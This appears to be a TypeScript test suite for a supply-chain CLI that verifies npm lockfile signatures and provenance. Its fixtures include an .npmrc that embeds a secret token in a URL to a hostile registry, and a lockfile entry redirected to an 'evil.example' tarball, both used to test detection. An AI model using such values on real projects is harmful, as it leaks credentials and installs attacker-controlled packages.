import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { provenanceWorkspace, TRUSTED_ROOT, type ProvenanceWorkspace } from '../support/provenance-workspace';
import { startProxyServer } from '../support/proxy-server';
import { FIXTURE_LOCK_ENTRIES, startRegistryServer, TAMPERED, type RegistryMode, type RegistryServer } from '../support/registry-server';
import { runCli } from '../support/run-cli';

const EVIL_TARBALL = 'http://evil.example/has-package-exports/-/has-package-exports-1.3.0.tgz';
const GOOF = join(__dirname, '../fixtures/realworld/nodejs-goof-2022-lockfile-v2');

const ATTESTED = FIXTURE_LOCK_ENTRIES.filter((e) => (e.name === 'sigstore' || e.name === 'tuf-js') && e.version === '1.0.0');
const WORKFLOW = '.github/workflows/publish.yml';
const SIGNED = FIXTURE_LOCK_ENTRIES.filter((e) => e.name === 'has-package-exports' && e.version === '1.3.0');

describe('chainsight verify', function () {
  const TABLE: Array<{ name: string; mode: RegistryMode; code: number; want: Record<string, [string, string]> }> = [
    {
      name: 'a registry with keys and attestations: verified signatures and provenance',
      mode: 'normal',
      code: 0,
      want: { 'sigstore@1.0.0': ['verified', 'verified'], 'tuf-js@1.0.0': ['verified', 'verified'], 'has-package-exports@1.3.0': ['verified', 'none'] },
    },
    {
      name: 'a mirror that strips signatures: unavailable, never an error',
      mode: 'mirror',
      code: 0,
      want: { 'sigstore@1.0.0': ['unavailable', 'unavailable'], 'tuf-js@1.0.0': ['unavailable', 'unavailable'], 'has-package-exports@1.3.0': ['unavailable', 'unavailable'] },
    },
    {
      name: 'a tampered tarball integrity: invalid, exit 1',
      mode: 'tampered-integrity',
      code: 1,
      // The registry's integrity no longer matches the lockfile's: the signature (over the registry's
      // integrity) is invalid for the lockfile, while the attestation still covers the locked bytes.
      want: { 'sigstore@1.0.0': ['invalid', 'verified'], 'tuf-js@1.0.0': ['verified', 'verified'], [`${TAMPERED.name}@${TAMPERED.version}`]: ['invalid', 'none'] },
    },
  ];

  for (const row of TABLE) {
    it(row.name, async () => {
      const registry = await startRegistryServer({ mode: row.mode });
      const ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED]);
      try {
        const result = await runCli(['verify', ws.root, '--trusted-root', TRUSTED_ROOT, '--format', 'json'], { env: ws.env });
        assert.equal(result.code, row.code, result.stderr);
        const report = JSON.parse(result.stdout) as { schemaVersion: number; packages: Array<{ name: string; version: string; signature: string; provenance: string; source: Record<string, string | null> }>; summary: Record<string, unknown> };
        assert.equal(report.schemaVersion, 1);
        const got = Object.fromEntries(report.packages.map((p) => [`${p.name}@${p.version}`, [p.signature, p.provenance]]));
        assert.deepEqual(got, row.want);
        if (row.mode === 'normal') {
          const sigstore = report.packages.find((p) => p.name === 'sigstore')!;
          assert.equal(sigstore.source.repository, 'https://github.com/sigstore/sigstore-js');
          assert.match(sigstore.source.commit!, /^0652899[0-9a-f]{33}$/);
          assert.equal(sigstore.source.workflow, WORKFLOW);
        }
      } finally {
        ws.dispose();
        await registry.close();
      }
    });
  }

  it('prints an npm-audit-signatures-like table', async () => {
    const registry = await startRegistryServer({ mode: 'normal' });
    const ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED]);
    try {
      const result = await runCli(['verify', ws.root, '--trusted-root', TRUSTED_ROOT], { env: ws.env });
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stdout, /^3 packages have a verified registry signature$/m);
      assert.match(result.stdout, /^2 packages have verified provenance$/m);
      assert.match(result.stdout, /^sigstore\s+1\.0\.0\s+verified\s+verified\s+github\.com\/sigstore\/sigstore-js@0652899$/m);
    } finally {
      ws.dispose();
      await registry.close();
    }
  });
});

describe('chainsight verify: what a repository cannot choose', function () {
  const SECRET = 's3cret-token-value';

  it('the project .npmrc is not read unless --trust-workspace: no request to its registry, no secret expanded', async () => {
    const user = await startRegistryServer();
    const hostile = await startRegistryServer();
    const ws = provenanceWorkspace(user.url, SIGNED, undefined, { projectNpmrc: `registry=${hostile.url}leak/\${SECRET_TOKEN}/\n`, env: { SECRET_TOKEN: SECRET } });
    try {
      const untrusted = await runCli(['verify', ws.root, '--trusted-root', TRUSTED_ROOT, '--format', 'json'], { env: ws.env });
      assert.equal(untrusted.code, 0, untrusted.stderr);
      assert.equal(hostile.requests.length, 0, hostile.requests.join('\n'));
      assert.deepEqual(JSON.parse(untrusted.stdout).packages.map((p: { registry: string; signature: string }) => [p.registry, p.signature]), [[user.url, 'verified']]);

      const trusted = await runCli(['verify', ws.root, '--trusted-root', TRUSTED_ROOT, '--trust-workspace', '--format', 'json'], { env: ws.env });
      assert.equal(trusted.code, 0, trusted.stderr);
      assert.ok(hostile.requests.length > 0 && hostile.requests.every((r) => r.startsWith(`GET /leak/${SECRET}/`)), 'trusted: npm precedence, variables expanded');
    } finally {
      ws.dispose();
      await user.close();
      await hostile.close();
    }
  });
});

describe('chainsight verify: what the lockfile pins', function () {
  let registry: RegistryServer;
  before(async () => {
    registry = await startRegistryServer();
  });
  after(() => registry.close());

  /** The signed workspace with one lockfile entry edited. */
  function edited(edit: (entry: Record<string, unknown>) => void): ProvenanceWorkspace {
    const ws = provenanceWorkspace(registry.url, SIGNED);
    const lock = JSON.parse(readFileSync(ws.path('package-lock.json'), 'utf8'));
    edit(lock.packages[`node_modules/${SIGNED[0]!.name}`]);
    ws.write('package-lock.json', JSON.stringify(lock, null, 2));
    return ws;
  }

  const rows: Array<{ name: string; edit: (e: Record<string, unknown>) => void; code: number; signature: string; table: RegExp; json?: (p: Record<string, unknown>) => void }> = [
    {
      name: 'a malformed integrity is invalid (exit 1), never verified',
      edit: (e) => (e.integrity = 'sha512-AAAA'),
      code: 1,
      signature: 'invalid',
      table: /^1 package has an invalid registry signature:\n  has-package-exports@1\.3\.0 — the lockfile integrity sha512-AAAA is not a valid/m,
    },
    {
      name: 'an integrity in an algorithm the registry does not sign is a warning that the bytes are not covered',
      edit: (e) => (e.integrity = `sha256-${Buffer.alloc(32, 7).toString('base64')}`),
      code: 0,
      signature: 'unverified',
      table: /^1 package has a registry signature that does not cover the locked bytes:\n  has-package-exports@1\.3\.0 — the lockfile pins this package with sha256 only, which the registry does not sign/m,
    },
    {
      name: 'a tarball URL on another host than the registry is shown',
      edit: (e) => (e.resolved = EVIL_TARBALL),
      code: 0,
      signature: 'verified',
      table: /^1 package has a tarball URL on another host than its registry:\n  has-package-exports@1\.3\.0 — http:\/\/evil\.example\/has-package-exports\/-\/has-package-exports-1\.3\.0\.tgz \(registry 127\.0\.0\.1:\d+\)$/m,
      json: (p) => assert.equal(p.resolvedElsewhere, EVIL_TARBALL),
    },
  ];
  for (const row of rows) {
    it(row.name, async () => {
      const ws = edited(row.edit);
      try {
        const json = await runCli(['verify', ws.root, '--trusted-root', TRUSTED_ROOT, '--format', 'json'], { env: ws.env });
        assert.equal(json.code, row.code, json.stderr);
        const [pkg] = JSON.parse(json.stdout).packages;
        assert.equal(pkg.signature, row.signature, pkg.signatureReason);
        row.json?.(pkg);
        const table = await runCli(['verify', ws.root, '--trusted-root', TRUSTED_ROOT], { env: ws.env });
        assert.match(table.stdout, row.table);
      } finally {
        ws.dispose();
      }
    });
  }
});

describe('chainsight verify --offline and a failing network', function () {
  it('--offline makes no connection at all, then shows the verdicts of an earlier check with their time', async () => {
    const registry = await startRegistryServer();
    const proxy = await startProxyServer();
    const ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED]);
    // Every connection, to the registry or to Sigstore's TUF repository, would go through the proxy.
    const env = { ...ws.env, HTTPS_PROXY: proxy.url, HTTP_PROXY: proxy.url, NO_PROXY: '' };
    try {
      const cold = await runCli(['verify', ws.root, '--offline', '--format', 'json'], { env });
      assert.equal(cold.code, 0, cold.stderr);
      assert.equal(proxy.connections(), 0);
      assert.deepEqual(registry.requests, []);
      const coldReport = JSON.parse(cold.stdout);
      assert.deepEqual(coldReport.packages.map((p: { signature: string; signatureReason: string }) => `${p.signature}: ${p.signatureReason}`), Array(3).fill('unavailable: offline: not checked'));

      const before = Date.now();
      const online = await runCli(['verify', ws.root, '--trusted-root', TRUSTED_ROOT, '--format', 'json'], { env: ws.env });
      assert.equal(online.code, 0, online.stderr);
      const requests = registry.requests.length;

      const warm = await runCli(['verify', ws.root, '--offline', '--format', 'json'], { env });
      assert.equal(proxy.connections(), 0);
      assert.equal(registry.requests.length, requests);
      const report = JSON.parse(warm.stdout);
      assert.deepEqual(report.packages.map((p: { signature: string; provenance: string }) => [p.signature, p.provenance]), JSON.parse(online.stdout).packages.map((p: { signature: string; provenance: string }) => [p.signature, p.provenance]));
      for (const p of report.packages) assert.ok(Date.parse(p.checkedAt) >= before - 1000, p.checkedAt);
      const table = await runCli(['verify', ws.root, '--offline'], { env });
      assert.match(table.stdout, /^3 results from earlier checks, shown offline \(not checked again\)$/m);
    } finally {
      ws.dispose();
      await proxy.close();
      await registry.close();
    }
  });

  it('through a proxy that drops every connection: 3 attempts for a real lockfile, and the failure said once', async () => {
    const proxy = await startProxyServer({ drop: true });
    const ws = provenanceWorkspace('http://registry.example.invalid/', [], [], {});
    try {
      const result = await runCli(['verify', GOOF, '--trusted-root', TRUSTED_ROOT], { env: { ...ws.env, HTTPS_PROXY: proxy.url, HTTP_PROXY: proxy.url, NO_PROXY: '' } });
      assert.equal(result.code, 0, result.stderr);
      // One host, at most three connection attempts (net/host-breaker.ts) for 980 packages.
      assert.ok(proxy.connections() <= 3, `${proxy.connections()} connections`);
      const failure = 'cannot reach registry.example.invalid: the proxy closed the connection instead of opening a tunnel';
      assert.equal(result.stderr.split('\n').filter((l) => l.includes(failure)).length, 1, result.stderr);
      assert.match(result.stdout, new RegExp(`^980 packages could not be checked for registry signatures:\\n  980 — ${failure}`, 'm'));
    } finally {
      ws.dispose();
      await proxy.close();
    }
  });
});
